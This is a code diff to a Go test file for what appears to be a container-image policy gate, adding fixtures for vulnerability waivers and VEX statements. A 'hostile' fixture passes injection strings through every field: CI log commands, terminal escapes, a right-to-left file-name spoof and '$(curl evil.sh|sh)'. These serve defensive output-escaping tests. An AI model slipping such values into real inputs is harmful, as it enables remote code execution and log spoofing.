@@ -31,6 +31,7 @@ func verdicts() map[string]verdict.Verdict {
 			in.Policy.Coverage = policy.Coverage{OSOptional: true, PackagesOptional: true, UnreadableAccept: []string{"opt/**"}}
 		}, static()),
 		"forecast": foretold(),
+		"waived":   run("shop:1.4", waive, waivable()),
 		"hostile":  hostile("x\n::error::pwned\x1b[2J\u202egnp.exe ##[group]", "$(curl evil.sh|sh)\r::set-output\xff"),
 	}
 }
@@ -95,6 +96,36 @@ func production() *policy.Policy {
 			{ID: "w-2026-002", Rule: "no-secrets", Path: "test/**", Until: day(6, 30), Reason: "keys of the tests", Owner: "qa"},
 		},
 	}
+}
+
+// waive has a waiver of each use.
+func waive(in *verdict.Input) {
+	day := func(m time.Month, d int) time.Time { return time.Date(2026, m, d, 0, 0, 0, 0, time.UTC) }
+	facts := &policy.Recorded{Date: day(1, 15), Severity: evidence.SeverityHigh, KnownExploited: ptr(false)}
+	p := in.Policy
+	p.WaiverLimits = policy.WaiverLimits{MaxHorizon: 90 * 24 * time.Hour, SameDay: 2}
+	p.Documents = []policy.DocumentRef{{Name: "company", Source: "company.yaml", Enforced: true}, {Name: "production", Source: "ocigate.yaml"}}
+	p.Rules[3].Level, p.Rules[4].Level, p.Rules[5].Level = 1, 0, 1
+	w := func(id string, until time.Time) policy.Waiver {
+		return policy.Waiver{ID: id, Until: until, Reason: "accepted until the next release", Owner: "platform", Level: 0}
+	}
+	apk, minimist, user, key := w("apk", day(3, 13)), w("minimist", day(3, 13)), w("user", day(4, 30)), w("key", day(3, 9))
+	apk.Finding, apk.Recorded = "CVE-2021-36159", facts
+	minimist.Finding, minimist.Path, minimist.Platforms, minimist.Images = "CVE-2021-44906", "app/**", []evidence.Platform{{OS: "linux", Architecture: "amd64"}}, []string{"shop:*"}
+	user.Rule, user.Level = "runtime", 1
+	key.Rule, key.Finding = "no-secrets", "aws-access-key-id"
+	far, unused := w("far", day(12, 31)), w("unused", day(4, 1))
+	far.Finding, unused.Finding = "GHSA-xxxx-yyyy-zzzz", "CVE-1999-1"
+	p.Waivers = []policy.Waiver{apk, minimist, user, key, far, unused}
+}
+
+func waivable() evidence.Evidence {
+	ev := failing()
+	ev.Subject.Name = "docker.io/library/shop:1.4"
+	ev.Findings[0].KnownExploited = ptr(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC))
+	ev.Findings[7].VEX = []evidence.VEXStatement{{Status: "not_affected", Justification: "vulnerable_code_not_in_execute_path: TLS ends upstream", Source: "vex/openssl.json", Author: "OpenSSL team"}}
+	ev.Feeds.VEX = []evidence.FeedState{{Source: "vex/openssl.json", Entries: 1}, {Source: "vex/old.json", Problem: "it is of 2020-01-01, older than the policy allows"}}
+	return ev
 }
 
 func image(ref string) evidence.Evidence {
@@ -211,6 +242,8 @@ func hostile(a, b string) verdict.Verdict {
 		npmVuln("CVE-1", evidence.SeverityHigh, a, b, b, a),
 		{Kind: evidence.KindSecret, ID: a, Title: b, Path: a, StartLine: 1},
 	}
+	ev.Findings[4].VEX = []evidence.VEXStatement{{Status: "not_affected", Justification: b, Source: a, Author: b}}
+	ev.Feeds.VEX = []evidence.FeedState{{Source: a, Problem: b}}
 	ev.Problems = []evidence.Problem{{Area: evidence.AreaFile, What: a, Analyzer: b, Message: a, Hint: b}, {Area: evidence.Area(a), What: b, Message: b}}
 	v := run(a, func(in *verdict.Input) {
 		in.Policy.Name, in.Policy.Source, in.Policy.Digest = a, b, a
